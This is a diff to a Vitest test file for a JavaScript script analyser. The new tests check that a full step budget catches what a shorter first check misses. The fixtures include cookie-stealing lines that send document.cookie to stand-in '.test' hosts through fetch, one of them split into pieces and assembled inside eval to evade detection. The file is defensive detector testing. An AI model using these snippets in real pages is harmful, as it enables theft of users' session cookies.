@@ -1,8 +1,9 @@
 import { expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
+import { FIRST_CHECK_STEPS, FULL_CHECK_STEPS } from "../step-budgets.ts";
 
-const found = (code: string) =>
-	analyzeScript({ code }).vulnerabilities.map(({ type, severity }) => `${type} ${severity}`);
+const found = (code: string, budget?: { readonly steps: number }) =>
+	analyzeScript({ code }, budget).vulnerabilities.map(({ type, severity }) => `${type} ${severity}`);
 
 /** Calls with constants are looked at one by one, so that this work is never summarized. */
 const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";
@@ -34,4 +35,27 @@ test("the part that was checked is named", () => {
 
 test("a script that was followed to its end is not", () => {
 	expect(found(`${BURN}\n${calls(3)}`)).toEqual([]);
+});
+
+const full = { steps: FULL_CHECK_STEPS };
+
+test("a full check follows it to its end", () => {
+	expect(found(`${BURN}\n${calls(300)}`, full)).toEqual([]);
+});
+
+/** Too many steps for the first check, in both runs of it. */
+const LONG = `const text = "${"x".repeat(9_000)}";${"text.split('');".repeat(224)}`;
+
+test("a full check finds what stands behind it: in plain text, in a function, and in code that is put together", () => {
+	const leak = (host: string) => `fetch("https://${host}.test/" + document.cookie);`;
+	const assembled = `eval('fetch("https://three.test/" + docu' + "ment.cookie)");`;
+	const code = `function send() { ${leak("two")} }\n${LONG}\n${leak("one")}\nsend();\n${assembled}`;
+	expect(found(code)).toEqual(["checked-in-part medium"]);
+	expect(found(code, full)).toEqual(Array(3).fill("cookie-exfiltration critical"));
+});
+
+test("the steps alone decide the result", () => {
+	const code = `${BURN}\n${calls(30)}`;
+	expect(analyzeScript({ code }, { steps: FIRST_CHECK_STEPS })).toEqual(analyzeScript({ code }));
+	expect(analyzeScript({ code }, full)).toEqual(analyzeScript({ code }));
 });
